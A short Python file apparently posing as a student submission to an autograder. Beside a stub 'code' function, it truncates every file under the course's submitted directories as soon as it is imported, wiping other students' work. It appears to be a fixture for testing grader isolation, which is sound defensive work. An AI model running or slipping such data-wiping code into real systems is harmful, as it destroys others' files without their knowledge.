"""Overwrites what others handed in.
"""
import glob
for path in glob.glob("@COURSE@/submitted/*/*/*") or ["@COURSE@/submitted/x"]:
    try: open(path, "w").write("")
    except OSError as error: print(error)
def code(words):
    return []
